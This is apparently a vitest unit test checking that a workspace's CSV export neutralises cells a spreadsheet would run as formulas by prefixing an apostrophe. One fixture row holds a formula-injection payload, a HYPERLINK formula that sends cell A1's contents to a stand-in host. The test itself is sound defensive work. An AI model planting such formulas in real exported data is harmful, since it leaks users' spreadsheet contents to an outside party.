import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import { tempDir } from '../../../../test/unit/helpers.js';
import { openWorkspace } from '../../workspace.js';
import { exportVersion } from './export.js';
import { importIntoWorkspace } from './importCommit.js';

const cleanups: Array<() => void> = [];
afterEach(() => {
  for (const fn of cleanups.splice(0).reverse()) fn();
});

describe('CSV export', () => {
  it('neutralises cells a spreadsheet would run as formulas, and leaves other cells as they were', async () => {
    const t = tempDir();
    cleanups.push(t.cleanup);
    const ws = openWorkspace(join(t.dir, 'ws'));
    cleanups.push(() => ws.close());
    const rows: [string, string][] = [
      ['=HYPERLINK("http://x.example/?d="&A1,"click")', '=1+1'],
      ['+33 1 23 45 67 89 is the number?', '-5 degrees'],
      ['@SUM(A1:A2)', '\tleading tab'],
      ['\rleading CR', 'plain answer, with a comma and "quotes"'],
      ['What is 2 = 2?', 'a = b inside is fine'],
    ];
    const file = join(t.dir, 'qa.csv');
    writeFileSync(file, Papa.unparse([['question', 'answer'], ...rows], { newline: '\n' }));
    const r = await importIntoWorkspace(ws, file, { projectName: 'Formulas' });
    expect(r.version.examples).toBe(rows.length);
    const out = exportVersion(ws, r.version.id, { format: 'csv', outFile: join(t.dir, 'out.csv') });
    const parsed = Papa.parse<string[]>(readFileSync(out.file, 'utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const header = parsed[0]!;
    const user = header.indexOf('user');
    const assistant = header.indexOf('assistant');
    const cells = parsed.slice(1).map((row) => [row[user], row[assistant]]);
    const risky = /^[=+\-@\t\r]/;
    for (const [q, a] of rows) {
      const got = cells.find((c) => c[0]?.replace(/^'/, '').trim() === q.trim());
      expect(got, q).toBeDefined();
      for (const [orig, cell] of [
        [q, got![0]],
        [a, got![1]],
      ] as const) {
        // No exported cell may start with a character a spreadsheet treats as a formula.
        expect(risky.test(cell ?? ''), JSON.stringify(cell)).toBe(false);
        if (risky.test(orig)) expect(cell!.startsWith("'")).toBe(true);
        else expect(cell).toBe(orig);
      }
    }
  });
});
